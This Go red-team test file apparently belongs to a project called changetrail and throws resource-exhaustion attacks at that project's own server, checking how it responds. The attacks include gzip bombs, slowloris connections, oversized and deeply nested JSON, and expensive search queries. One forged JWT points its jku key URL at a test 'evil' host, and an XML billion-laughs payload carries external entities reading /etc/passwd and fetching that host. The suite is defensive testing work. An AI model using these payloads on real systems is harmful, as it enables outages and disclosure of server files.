//go:build servers

package redteam

import (
	"bytes"
	"compress/gzip"
	"context"
	"encoding/base64"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"strings"
	"time"

	"github.com/changetrail/changetrail/record"
)

// zeros is n bytes, packed.
func zeros(n int64, around ...string) string {
	var b bytes.Buffer
	w, _ := gzip.NewWriterLevel(&b, gzip.BestCompression)
	if len(around) > 0 {
		_, _ = io.WriteString(w, around[0])
	}
	_, _ = io.CopyN(w, repeat([]byte(" ")), n)
	if len(around) > 1 {
		_, _ = io.WriteString(w, around[1])
	}
	_ = w.Close()
	return b.String()
}

// many does f in n clients at a time until others were asked how they are served.
func (a *adversary) many(n int, f func(ctx context.Context, i int)) {
	for i := range n {
		a.meanwhile(func(ctx context.Context) {
			for ctx.Err() == nil {
				f(ctx, i)
			}
		})
	}
	time.Sleep(1500 * time.Millisecond)
}

// quiet sends a request of which the answer does not count; ctx ends it.
func (a *adversary) quiet(ctx context.Context, method, path, body string, headers ...string) {
	r, err := http.NewRequestWithContext(ctx, method, a.page+path, strings.NewReader(body))
	if err != nil {
		return
	}
	for i := 0; i < len(headers); i += 2 {
		r.Header.Set(headers[i], headers[i+1])
	}
	if res, err := a.client.Do(r); err == nil {
		_, _ = io.Copy(io.Discard, io.LimitReader(res.Body, 1<<20))
		_ = res.Body.Close()
	}
	time.Sleep(10 * time.Millisecond) // its own work is not to be what takes the CPU
}

func byExhaustion() []move {
	structured := []string{"Content-Type", "application/cloudevents+json"}
	return []move{
		{"events unpack to 1 GB", func(a *adversary) {
			bomb := zeros(1 << 30)
			a.many(8, func(ctx context.Context, _ int) {
				a.quiet(ctx, "POST", "/v1/events", bomb, append(a.own(), "Content-Type", "application/cloudevents+json", "Content-Encoding", "gzip")...)
			})
		}},
		{"telemetry unpacks to 1 GB", func(a *adversary) {
			bomb := zeros(1 << 30)
			a.many(8, func(ctx context.Context, i int) {
				a.quiet(ctx, "POST", []string{"/v1/traces", "/v1/logs"}[i%2], bomb, append(a.own(), "Content-Type", "application/json", "Content-Encoding", "gzip")...)
			})
		}},
		{"reports in events unpack to 32 MB each", func(a *adversary) {
			packed := base64.StdEncoding.EncodeToString([]byte(zeros(32<<20-100, `{"results":[]`, `}`)))
			a.many(16, func(ctx context.Context, i int) {
				a.quiet(ctx, "POST", "/v1/events", fmt.Sprintf(`{"specversion":"1.0","id":"z-%d-%d","source":"/x","type":%q,"subject":%q,"data":{"tool":{"name":"osv-scanner"},"report":{"encoding":"gzip+base64","content":%q}}}`, i, time.Now().UnixNano(), record.TypeScanCompleted, web+"/pull/4", packed), append(a.own(), structured...)...)
			})
		}},
		{"200 bodies are promised and do not come", func(a *adversary) {
			a.meanwhile(func(ctx context.Context) {
				for i := range 200 {
					if conn := a.dial(ctx, a.http()); conn != nil {
						path := []string{"POST /v1/webhooks/github", "PUT /v1/blobs", "POST /v1/events"}[i%3]
						fmt.Fprintf(conn, "%s HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer %s\r\nContent-Type: application/json\r\nContent-Length: 26214400\r\n\r\n{", path, a.tokens["mallory"])
					}
				}
				<-ctx.Done()
			})
			time.Sleep(time.Second)
		}},
		{"200 clients send headers byte by byte", func(a *adversary) {
			a.many(200, func(ctx context.Context, _ int) {
				conn := a.dial(ctx, a.http())
				if conn == nil {
					return
				}
				_, _ = io.WriteString(conn, "GET / HTTP/1.1\r\nHost: localhost\r\n")
				for i := 0; ctx.Err() == nil; i++ {
					if _, err := fmt.Fprintf(conn, "X-%d: a\r\n", i); err != nil {
						return
					}
					select {
					case <-ctx.Done():
					case <-time.After(time.Second):
					}
				}
			})
		}},
		{"100 clients do not read their answers", func(a *adversary) {
			a.meanwhile(func(ctx context.Context) {
				for range 100 {
					if conn := a.dial(ctx, a.http()); conn != nil {
						for range 20 {
							fmt.Fprintf(conn, "GET /v1/changes?since=&size=1000 HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer %s\r\n\r\n", a.tokens["mallory"])
						}
					}
				}
				<-ctx.Done()
			})
			time.Sleep(time.Second)
		}},
		{"headers have a megabyte", func(a *adversary) {
			a.many(8, func(ctx context.Context, _ int) {
				a.quiet(ctx, "POST", "/v1/events", "{}", append(a.own(), "ce-x", strings.Repeat("x", 900_000))...)
			})
		}},
		{"JSON is nested, wide, and of long numbers", func(a *adversary) {
			deep := strings.Repeat("[", 3_000_000)
			wide := "{" + strings.TrimSuffix(strings.Repeat(`"a":1,`, 700_000), ",") + "}"
			number := strings.Repeat("9", 4_000_000)
			a.many(6, func(ctx context.Context, i int) {
				data := []string{deep, wide, number}[i%3]
				a.quiet(ctx, "POST", "/v1/events", `{"specversion":"1.0","id":"j","source":"/x","type":"`+record.TypeActionPerformed+`","subject":"`+web+`/pull/4","data":{"agent":{"id":"mallory"},"tool":"T","arguments":`+data+`}}`, append(a.own(), structured...)...)
			})
		}},
		{"a text has 100,000 secrets", func(a *adversary) {
			var text strings.Builder
			for i := range 100_000 {
				fmt.Fprintf(&text, "token=ghp_%036d ", i)
			}
			a.many(2, func(ctx context.Context, i int) {
				a.quiet(ctx, "POST", "/v1/events", fmt.Sprintf(`{"specversion":"1.0","id":"s-%d-%d","source":"/x","type":%q,"subject":%q,"data":{"agent":{"id":"mallory"},"tool":"T","arguments":%q}}`, i, time.Now().UnixNano(), record.TypeActionPerformed, web+"/pull/4", text.String()), append(a.own(), structured...)...)
			})
		}},
		{"searches cost much", func(a *adversary) {
			phrase := strings.TrimSuffix(strings.Repeat(`"update to" OR `, 1000), " OR ")
			stars := strings.TrimSuffix(strings.Repeat("*a*b*c*d* OR ", 200), " OR ")
			nested := strings.Repeat("(", 3000) + "a" + strings.Repeat(")", 3000)
			a.many(6, func(ctx context.Context, i int) {
				q := []string{"changetrail.change.title:(" + phrase + ")", stars, nested, "NOT (" + phrase + ")"}[i%4]
				a.quiet(ctx, "GET", "/v1/changes?since=&"+url.Values{"q": {q}}.Encode(), "", a.own()...)
			})
		}},
		{"pages, sizes and facets are out of bounds", func(a *adversary) {
			for _, q := range []string{"page=368934881474191033", "size=-1", "size=99999999999999999999", "page=0", "f=x", "f=" + strings.Repeat("tags:a&f=", 3000), "since=99999999999d", "from=9999-99-99", "q=" + strings.Repeat("%28", 5000), "c=" + strings.Repeat("c&c=", 3000)} {
				if got := a.ask("GET", "/v1/changes?"+q, "", a.own()...); got.status >= 500 || got.err != nil {
					a.t.Errorf("%.60s: %d %v", q, got.status, got.err)
				}
			}
		}},
		{"forged tokens name an issuer and keys", func(a *adversary) {
			a.many(16, func(ctx context.Context, i int) {
				head := base64.RawURLEncoding.EncodeToString(fmt.Appendf(nil, `{"alg":"RS256","kid":"%d-%d","jku":%q}`, i, time.Now().UnixNano(), a.evil.URL))
				claims := base64.RawURLEncoding.EncodeToString(fmt.Appendf(nil, `{"iss":%q,"aud":"x"}`, a.evil.URL))
				a.quiet(ctx, "POST", "/v1/events", "{}", append(structured, "Authorization", "Bearer "+head+"."+claims+".AAAA")...)
			})
		}},
		{"it tries to sign in again and again", func(a *adversary) {
			a.many(16, func(ctx context.Context, i int) {
				a.quiet(ctx, "POST", "/sign-in", url.Values{"token": {fmt.Sprint("ct_", i, time.Now())}}.Encode(), "Content-Type", "application/x-www-form-urlencoded", "Sec-Fetch-Site", "same-origin")
			})
		}},
		{"it hands in large files again and again", func(a *adversary) {
			file := strings.Repeat("0123456789abcdef", 40<<20/16)
			for i := range 6 {
				got := a.ask("PUT", "/v1/blobs", fmt.Sprint(i)+file, a.own()...)
				a.is(got, 201, 413, 429, 503)
			}
		}},
		{"a report of tests has entities that grow", func(a *adversary) {
			var b strings.Builder
			b.WriteString(`<?xml version="1.0"?><!DOCTYPE t [<!ENTITY a0 "aaaaaaaaaa">`)
			for i := 1; i < 10; i++ {
				fmt.Fprintf(&b, `<!ENTITY a%d "%s">`, i, strings.Repeat(fmt.Sprintf("&a%d;", i-1), 10))
			}
			b.WriteString(`<!ENTITY f SYSTEM "file:///etc/passwd"><!ENTITY h SYSTEM "` + a.evil.URL + `">]><testsuite name="&a9;" tests="1"><testcase name="&f;&h;" classname="c"/></testsuite>`)
			digest := a.put(b.String())
			a.is(a.says(record.TypeValidationCompleted, web+"/pull/4", `{"name":"unit","conclusion":"success","report":{"digest":"`+digest+`"}}`), 204, 422)
		}},
		{"reports are wide and deep", func(a *adversary) {
			for _, file := range []string{strings.Repeat("[", 1_000_000), `{"results":[` + strings.TrimSuffix(strings.Repeat(`{"packages":[]},`, 300_000), ",") + `]}`, "<testsuite>" + strings.Repeat("<testsuite>", 200_000), `{"version":"2.1.0","runs":[` + strings.TrimSuffix(strings.Repeat(`{"results":[]},`, 300_000), ",") + `]}`} {
				digest := a.put(file)
				a.is(a.says(record.TypeScanCompleted, web+"/pull/4", `{"tool":{"name":"x"},"report":{"digest":"`+digest+`"}}`), 204, 422, 503, 413)
			}
		}},
		{"it sends as fast as it can", func(a *adversary) {
			a.many(4, func(ctx context.Context, i int) {
				a.quiet(ctx, "POST", "/v1/events", fmt.Sprintf(`{"specversion":"1.0","id":"fast-%d-%d","source":"/x","type":%q,"subject":"%s/pull/%d","data":{"summary":"x"}}`, i, time.Now().UnixNano(), record.TypeEventNoted, web, 100+time.Now().UnixNano()%50), append(a.own(), structured...)...)
			})
		}},
		{"it opens 1,000 connections and says nothing", func(a *adversary) {
			a.meanwhile(func(ctx context.Context) {
				for range 1000 {
					a.dial(ctx, a.http())
				}
				<-ctx.Done()
			})
			time.Sleep(time.Second)
		}},
		{"it changes one change 100 times with 300 KB each", func(a *adversary) {
			var names []string
			for i := range 3000 {
				names = append(names, fmt.Sprintf(`"src/%s/%d.js"`, strings.Repeat("x", 80), i))
			}
			files := strings.Join(names, ",")
			a.meanwhile(func(ctx context.Context) {
				for i := range 100 {
					if ctx.Err() != nil {
						return
					}
					a.quiet(ctx, "POST", "/v1/events", fmt.Sprintf(`{"specversion":"1.0","id":"large-%d","source":"/x","type":%q,"subject":"%s/pull/4","data":{"head_sha":"%040x","files":[%s]}}`, i, record.TypeChangeUpdated, web, i, files), append(a.own(), structured...)...)
				}
			})
			time.Sleep(time.Second)
		}},
	}
}
